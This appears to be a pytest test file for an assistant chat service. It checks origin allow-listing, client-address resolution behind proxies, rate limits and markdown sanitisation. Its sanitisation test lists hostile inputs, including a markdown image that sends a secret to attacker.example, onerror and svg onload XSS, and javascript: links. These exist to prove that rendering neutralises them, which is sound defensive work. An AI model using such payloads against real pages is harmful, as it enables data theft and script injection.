"""Origins, addresses, limits and what becomes of hostile text in html."""

import time
import uuid

import pytest
from django.db import OperationalError
from hypothesis import given
from hypothesis import strategies as st

from assistant.conversations import limits
from assistant.conversations.errors import RateLimited
from assistant.conversations.limits import LocalWindows, OpenSockets, client_address
from assistant.conversations.rendering import escape_text, render_markdown
from assistant.origins import canonical, origin_allowed


@given(st.text())
def test_no_odd_origin_is_allowed_or_breaks(text):
    assert not origin_allowed(text, ["https://shop.example"]) or canonical(text) == ("https", "shop.example", 443)


@pytest.mark.parametrize("origin", ["null", "", "*", "file://", "https://shop.example@evil.com", "//shop.example"])
def test_what_names_no_site_is_refused_even_when_listed(origin):
    assert not origin_allowed(origin, [origin])


@pytest.mark.parametrize(
    ("peer", "forwarded", "trusted", "expected"),
    [
        ("9.9.9.9", "1.1.1.1", [], "9.9.9.9"),
        ("10.0.0.1", "1.1.1.1", ["10.0.0.0/8"], "1.1.1.1"),
        ("10.0.0.1", "6.6.6.6, 1.1.1.1", ["10.0.0.0/8"], "1.1.1.1"),
        ("10.0.0.1", "1.1.1.1, 10.0.0.2", ["10.0.0.0/8"], "1.1.1.1"),
        ("10.0.0.1", "nonsense", ["10.0.0.0/8"], "10.0.0.1"),
        ("2001:db8::1", "", [], "2001:db8::/64"),
        ("::ffff:9.9.9.9", "", [], "9.9.9.9"),
        (None, "1.1.1.1", [], None),
    ],
)
def test_the_address_is_the_nearest_that_no_trusted_proxy_has(peer, forwarded, trusted, expected):
    assert client_address(peer, forwarded, trusted) == expected


def test_a_window_counts_and_ends():
    windows = LocalWindows()
    assert [windows.count("a", now)[0] for now in (0.0, 1.0, 59.0, 61.0)] == [1, 2, 3, 1]
    assert windows.count("b", 61.0)[0] == 1


@pytest.mark.usefixtures("embedded_services")
def test_limits_hold_and_zero_switches_off(settings):
    settings.RATE_LIMIT_VISITOR, settings.RATE_LIMIT_ADDRESS = 3, 0
    visitor = uuid.uuid4()
    for _ in range(3):
        count_one(visitor)
    with pytest.raises(RateLimited) as refusal:
        count_one(visitor)
    assert 1 <= refusal.value.retry_after <= 61
    settings.RATE_LIMIT_VISITOR = 0
    count_one(visitor)


@pytest.mark.usefixtures("embedded_services")
@pytest.mark.parametrize("broker_away", [False, True])
def test_what_the_database_does_not_take_counts_for_nothing(settings, monkeypatch, broker_away):
    settings.RATE_LIMIT_VISITOR, settings.RATE_LIMIT_ADDRESS = 1, 0
    monkeypatch.setattr(limits.windows, "away_until", time.monotonic() + 60 if broker_away else 0.0)
    visitor = uuid.uuid4()
    for _ in range(3):
        with pytest.raises(OperationalError), limits.counted("message", visitor=visitor, address="1.1.1.1"):
            raise OperationalError
    count_one(visitor)
    with pytest.raises(RateLimited):
        count_one(visitor)


def count_one(visitor: uuid.UUID) -> None:
    with limits.counted("message", visitor=visitor, address="1.1.1.1"):
        pass


def test_sockets_are_counted_in_and_out(settings):
    settings.RATE_LIMIT_ADDRESS = 1
    sockets = OpenSockets()
    sockets.enter("1.1.1.1")
    sockets.enter("2.2.2.2")
    with pytest.raises(RateLimited):
        sockets.enter("1.1.1.1")
    sockets.leave("1.1.1.1")
    sockets.enter("1.1.1.1")


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://attacker.example/p?d=SECRET)",
        "![x][y]\n\n[y]: https://attacker.example/p",
        "<img src=https://attacker.example/p onerror=alert(1)>",
        "![x](//attacker.example/p)",
        "[x](javascript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](data:text/html,x)",
        "[x](https://good.example@attacker.example/)",
        "<script>alert(1)</script><svg onload=alert(1)>",
    ],
)
def test_nothing_of_an_attack_lives_on_in_html(text):
    html = render_markdown(text)
    assert 'src="' not in html
    assert 'href="' not in html
    assert "<script" not in html
    assert "<svg" not in html
    assert "<" not in escape_text("<script>")


def test_our_own_images_and_links_are_absolute(settings):
    settings.PUBLIC_URL = "https://help.example"
    html = render_markdown("![a](/help/default/a.png) [b](/help/default/b#c)")
    assert 'src="https://help.example/help/default/a.png"' in html
    assert 'href="https://help.example/help/default/b#c"' in html
